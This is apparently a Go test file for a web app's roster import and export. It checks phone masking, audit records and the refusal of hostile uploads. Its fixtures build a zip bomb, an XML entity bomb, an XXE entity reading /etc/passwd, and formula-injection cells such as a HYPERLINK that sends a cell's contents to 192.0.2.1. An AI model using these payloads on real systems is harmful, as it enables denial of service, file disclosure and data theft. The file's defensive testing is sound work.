package web

import (
	"archive/zip"
	"bytes"
	"fmt"
	"mime/multipart"
	"net/http"
	"net/http/httptest"
	"net/url"
	"strings"
	"testing"

	"gatecast/controller/fleet"
	"gatecast/controller/sheet"
)

// sendFile posts one file to the import of rosters.
func (c *client) sendFile(name, kind string, raw []byte) *httptest.ResponseRecorder {
	c.t.Helper()
	var b bytes.Buffer
	m := multipart.NewWriter(&b)
	m.WriteField("kind", kind)
	p, err := m.CreateFormFile("file", name)
	if err != nil {
		c.t.Fatal(err)
	}
	p.Write(raw)
	m.Close()
	r := httptest.NewRequest(http.MethodPost, "/rosters", &b)
	r.Header.Set("Content-Type", m.FormDataContentType())
	r.Header.Set("Sec-Fetch-Site", "same-origin")
	return c.do(r)
}

func rosterBook(t testing.TB, name string, rows ...string) []byte {
	t.Helper()
	p := sheet.Page{Name: name}
	for _, h := range strings.Split(rows[0], "|") {
		p.Columns = append(p.Columns, sheet.Column{Head: h})
	}
	for _, r := range rows[1:] {
		p.Rows = append(p.Rows, strings.Split(r, "|"))
	}
	var b bytes.Buffer
	if err := sheet.WriteXLSX(&b, p); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

func bookText(t testing.TB, raw []byte) string {
	t.Helper()
	book, err := sheet.Read(raw, sheet.DefaultLimits())
	if err != nil {
		t.Fatal(err)
	}
	var b strings.Builder
	for _, s := range book.Sheets {
		for _, r := range s.Rows {
			b.WriteString(strings.Join(r.Cells, "|") + "\n")
		}
	}
	return b.String()
}

func TestRosterIsCheckedThenImported(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	c := w.as(t, "clerk")
	res := c.sendFile("联络员 2026.xlsx", "", rosterBook(t, "联络员", "单位|姓名|职务|手机|备注", "松风社区|新工|副主任|13911112222|x", "无此社区|乙工||1.38E+10|"))
	where := res.Header().Get("Location")
	if res.Code != http.StatusSeeOther || !strings.HasPrefix(where, "/rosters/checks/") {
		t.Fatalf("POST /rosters = %d to %q\n%s", res.Code, where, res.Body)
	}
	text := c.get(where).Body.String()
	for _, want := range []string{"新增 1", "有错 1", "联络员 A3", "联络员 D3", "找不到单位", "丢失了后几位数字", "备注", "139****2222", "只导入没有错误的行"} {
		if !strings.Contains(text, want) {
			t.Errorf("the page of the check lacks %q", want)
		}
	}
	if strings.Contains(text, "13911112222") {
		t.Error("the page of the check shows a whole number")
	}
	if n := len(w.liaisons(t, "新工")); n != 0 {
		t.Fatalf("checking added %d liaisons", n)
	}
	marked := c.get(where + "/marked")
	if got := bookText(t, marked.Body.Bytes()); !strings.Contains(got, "找不到单位") || !strings.Contains(marked.Header().Get("Content-Disposition"), "xlsx") {
		t.Errorf("the marked sheet holds\n%s", got)
	}
	// Somebody else's check, and one without the word for the good rows.
	if other := w.as(t, "admin").get(where); other.Code != http.StatusNotFound {
		t.Errorf("another account gets %d", other.Code)
	}
	if res := c.post(where, url.Values{}); res.Code != http.StatusUnprocessableEntity || len(w.liaisons(t, "新工")) != 0 {
		t.Errorf("importing with errors = %d", res.Code)
	}
	res = c.post(where, url.Values{"partial": {"1"}})
	if res.Code != http.StatusSeeOther || !strings.HasPrefix(res.Header().Get("Location"), "/rosters?done=") {
		t.Fatalf("importing = %d to %q\n%s", res.Code, res.Header().Get("Location"), res.Body)
	}
	if text := c.get(res.Header().Get("Location")).Body.String(); !strings.Contains(text, "新增 1，更改 0，未变 0。") || !strings.Contains(text, "1 行没有导入") {
		t.Error("the page does not say what the import came to")
	}
	if l := w.liaisons(t, "新工"); len(l) != 1 || l[0].Phone != "13911112222" || l[0].Post != "副主任" {
		t.Fatalf("liaisons = %+v", l)
	}
	lines, err := w.store.FindAudits(t.Context(), fleet.AuditFilter{What: fleet.AuditRoster})
	if err != nil || len(lines) != 1 || lines[0].Who != "clerk" || lines[0].Detail != "联络员 2026.xlsx" || strings.Contains(lines[0].After, "13911112222") {
		t.Errorf("audit = %+v, %v", lines, err)
	}
	if res := c.post(where, url.Values{"partial": {"1"}}); res.Code != http.StatusNotFound {
		t.Errorf("importing twice = %d, want the check to be gone", res.Code)
	}
}

func (w *world) liaisons(t testing.TB, name string) (found []fleet.Liaison) {
	t.Helper()
	all, err := w.store.Liaisons(t.Context())
	if err != nil {
		t.Fatal(err)
	}
	for _, l := range all {
		if l.Name == name {
			found = append(found, l)
		}
	}
	return found
}

func TestRosterExportMasksPhonesUnlessAReasonIsGiven(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	c := w.as(t, "clerk")
	masked := bookText(t, c.get("/rosters/export?kind=liaisons").Body.Bytes())
	if !strings.Contains(masked, "****") || strings.Contains(masked, "13800000421") {
		t.Errorf("the export holds\n%s", masked)
	}
	if csv := c.get("/rosters/export?kind=liaisons&as=csv").Body.String(); !strings.HasPrefix(csv, "\ufeff\"核验编号 ") || !strings.Contains(csv, "\r\n\"所属单位\"") || strings.Contains(csv, "13800000421") {
		t.Errorf("the CSV begins %.60q", csv)
	}
	if res := c.post("/rosters/export", url.Values{"kind": {"liaisons"}, "reason": {"a"}}); res.Code != http.StatusUnprocessableEntity || !strings.Contains(res.Body.String(), `value="a"`) {
		t.Errorf("without a reason = %d", res.Code)
	}
	res := c.post("/rosters/export", url.Values{"kind": {"liaisons"}, "reason": {"核对联络员电话"}})
	whole := bookText(t, res.Body.Bytes())
	if !strings.Contains(whole, "13800000421") || !strings.Contains(whole, "李工（clerk） · 2026-11-23 18:12:40 · 理由：核对联络员电话") {
		t.Errorf("the whole export holds\n%s", whole)
	}
	lines, err := w.store.FindAudits(t.Context(), fleet.AuditFilter{What: fleet.AuditRosterWhole})
	if err != nil || len(lines) != 1 || lines[0].Detail != "核对联络员电话" {
		t.Errorf("audit = %+v, %v", lines, err)
	}
	if res := w.as(t, "inspector").post("/rosters/export", url.Values{"reason": {"核对联络员电话"}}); res.Code != http.StatusForbidden {
		t.Errorf("an inspector gets whole numbers: %d", res.Code)
	}
	if res := c.get("/rosters/export?kind=people"); res.Code != http.StatusNotFound {
		t.Errorf("an unknown roster = %d", res.Code)
	}
	// What was given out in either language comes back as it was.
	for _, lang := range languages {
		res := c.sendFile("all.xlsx", "", c.get("/rosters/export?lang="+lang).Body.Bytes())
		text := c.get(res.Header().Get("Location") + "?lang=zh").Body.String()
		if !strings.Contains(text, "没有变化") || strings.Contains(text, `id="errors"`) {
			t.Errorf("%s: the export does not come back unchanged (%d)", lang, res.Code)
		}
	}
}

// bombs are files that want to cost more than they are.
func bombs(t testing.TB) map[string][]byte {
	t.Helper()
	pack := func(parts ...string) []byte {
		var b bytes.Buffer
		z := zip.NewWriter(&b)
		for i := 0; i < len(parts); i += 2 {
			w, err := z.Create(parts[i])
			if err != nil {
				t.Fatal(err)
			}
			w.Write([]byte(parts[i+1]))
		}
		if err := z.Close(); err != nil {
			t.Fatal(err)
		}
		return b.Bytes()
	}
	const book, rels, part = "xl/workbook.xml", "xl/_rels/workbook.xml.rels", "xl/worksheets/sheet1.xml"
	const books = `<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet name="单位" sheetId="1" r:id="rId1"/></sheets></workbook>`
	const related = `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/></Relationships>`
	entities := `<!DOCTYPE x [<!ENTITY a0 "ha">`
	for i := 1; i < 20; i++ {
		entities += fmt.Sprintf(`<!ENTITY a%d "%s">`, i, strings.Repeat(fmt.Sprintf("&a%d;", i-1), 10))
	}
	return map[string][]byte{
		"zip bomb":        pack(book, books, rels, related, part, "<worksheet/>", "xl/media/1.bin", strings.Repeat("\x00", 70<<20)),
		"entities":        pack(book, books, rels, related, part, entities+`]><worksheet><sheetData><row r="1"><c r="A1" t="str"><v>&a19;</v></c></row></sheetData></worksheet>`),
		"foreign entity":  pack(book, books, rels, related, part, `<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><worksheet><sheetData><row r="1"><c r="A1" t="str"><v>&a;</v></c></row></sheetData></worksheet>`),
		"last column":     pack(book, books, rels, related, part, `<worksheet><sheetData>`+strings.Repeat(`<row><c r="XFD1"><v>1</v></c></row>`, 9000)+`</sheetData></worksheet>`),
		"old .xls":        append([]byte{0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1}, make([]byte, 4096)...),
		"too large":       bytes.Repeat([]byte("单位,姓名\n"), 11<<20/14),
		"endless quote":   []byte("单位,姓名\n\"" + strings.Repeat("x", 1<<20)),
		"web page":        []byte("<html><script>alert(1)</script></html>"),
		"macros":          pack(book, books, rels, related, part, "<worksheet/>", "xl/vbaProject.bin", "x"),
		"identity number": []byte("单位,姓名,电话\n松风社区,甲工,340103199003071233\n"),
	}
}

// TestRefusesHostileRosters sends what is made to cost memory, to reach other
// files, or to run in the spreadsheet of whoever opens an export.
func TestRefusesHostileRosters(t *testing.T) {
	w := newWorld(t)
	c := w.as(t, "clerk")
	n := &tally{t: t}
	for name, raw := range bombs(t) {
		res := c.sendFile(name+".xlsx", "", raw)
		if name == "identity number" {
			res = c.get(res.Header().Get("Location"))
			n.count(strings.Contains(res.Body.String(), "身份证号") && !strings.Contains(res.Body.String(), "19900307") && strings.Contains(res.Body.String(), "有错 1"), "%s was taken", name)
			continue
		}
		n.count(res.Code == http.StatusUnprocessableEntity && strings.Contains(res.Body.String(), "没有导入"), "%s: %d", name, res.Code)
	}
	n.report("workbooks made to exhaust memory or to read other files", "撑爆内存、读取其他文件的表格", "zip and XML bombs, foreign entities, macros, old formats, identity numbers", "压缩炸弹、XML 炸弹、外部实体、宏、旧格式、身份证号")

	n = &tally{t: t}
	evil := []string{"=HYPERLINK(\"http://192.0.2.1/?\"&A1,\"x\")", "+1+cmd!A0", "-2+3", "@SUM(1)", "＝1+1"}
	rows := []string{"单位|姓名|职务"}
	for i, e := range evil {
		rows = append(rows, fmt.Sprintf("松风社区|恶%d|%s", i, e))
	}
	res := c.sendFile("x.xlsx", "", rosterBook(t, "联络员", rows...))
	if res := c.post(res.Header().Get("Location"), url.Values{}); res.Code != http.StatusSeeOther {
		t.Fatalf("importing = %d\n%s", res.Code, res.Body)
	}
	csv := c.get("/rosters/export?kind=liaisons&as=csv").Body.String()
	z := c.get("/rosters/export?kind=liaisons").Body.Bytes()
	book := bookText(t, z)
	for _, e := range evil {
		n.count(strings.Contains(csv, `"'`+strings.ReplaceAll(e, `"`, `""`)+`"`), "CSV has %q bare", e)
		n.count(strings.Contains(book, e), "the workbook lost %q", e)
	}
	r, err := zip.NewReader(bytes.NewReader(z), int64(len(z)))
	if err != nil {
		t.Fatal(err)
	}
	for _, f := range r.File {
		part, err := f.Open()
		if err != nil {
			t.Fatal(err)
		}
		var b bytes.Buffer
		b.ReadFrom(part)
		part.Close()
		n.count(!strings.Contains(b.String(), "<f>") && !strings.Contains(b.String(), "<f "), "%s holds a formula", f.Name)
	}
	n.report("formulas brought in with a roster", "名册里夹带的公式", "exports to CSV and xlsx; every cell stays text", "导出为 CSV 和 xlsx，每一格都是文字")
}

// checked is the page of a file with everything that can be said of one, for
// the account of the tour.
func (w *world) checked(t testing.TB) string {
	t.Helper()
	admin, err := w.store.UserByLogin(t.Context(), "admin")
	if err != nil {
		t.Fatal(err)
	}
	c, err := w.server.o.RosterDesk.Check(t.Context(), rosterBook(t, "联络员", "单位|姓名|职务|手机|从哪个部门抽调的、什么时候回去",
		"松风社区|新工|副主任|13911112222|x", "无此社区|乙工||1.38E+10|", "望河社区|何知夏|反电诈宣传工作领导小组办公室联络员||", strings.Repeat("很长的单位名称", 20)+"|丙工|||"), "")
	if err != nil {
		t.Fatal(err)
	}
	return "/rosters/checks/" + w.server.checks.put(c, "示例街道反电诈工作联络员名单（2026年11月更新）.xlsx", admin.ID, w.now())
}
